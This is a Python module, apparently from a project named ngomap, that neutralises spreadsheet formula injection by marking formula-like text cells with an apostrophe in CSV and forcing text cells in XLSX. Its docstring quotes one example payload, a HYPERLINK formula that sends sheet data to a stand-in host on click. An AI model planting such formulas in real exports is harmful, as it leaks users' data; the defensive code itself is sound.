"""Spreadsheet cells from user text: shown as text by Excel and LibreOffice, never a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to a spreadsheet (``=HYPERLINK("http://host/?"&A3,"Cliquez")`` sends the sheet's data away
on a click). In CSV, such text gets a leading apostrophe, the spreadsheets' own mark for
"this is text"; in XLSX, every text cell is written as text, never as a formula. ngomap's
importer takes the apostrophe off again (``revive``), so a file exported and imported back
gives the original text. Numbers ("-12.5") are left alone.
"""

from __future__ import annotations

import re
from typing import Any, Final

import pandas as pd

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
MARK: Final = "'"
_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def inert(value: object) -> object:
    """``value`` as a CSV cell that no spreadsheet runs: text that would be a formula gets
    the apostrophe mark; anything else is returned as it is."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return MARK + value
    return value


def revive(text: str) -> str:
    """A cell read back: the apostrophe that ``inert`` added is taken off."""
    if text.startswith(MARK) and text[1:2] and text[1:2] in TRIGGERS:
        return text[1:]
    return text


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are inert (for CSV)."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            cells = [inert(v) for v in out[column].tolist()]
            out[column] = pd.Series(cells, index=out.index, dtype=object)
    out.columns = pd.Index([inert(c) for c in out.columns])
    if out.index.dtype == object:
        out.index = pd.Index([inert(v) for v in out.index])
    return out


def text_not_formulas(sheets: Any) -> int:
    """Every cell openpyxl took for a formula, in each sheet of ``sheets``, written as text
    instead (pandas hands strings to openpyxl, which reads "=..." as a formula). Returns
    how many cells were changed."""
    changed = 0
    for sheet in sheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed
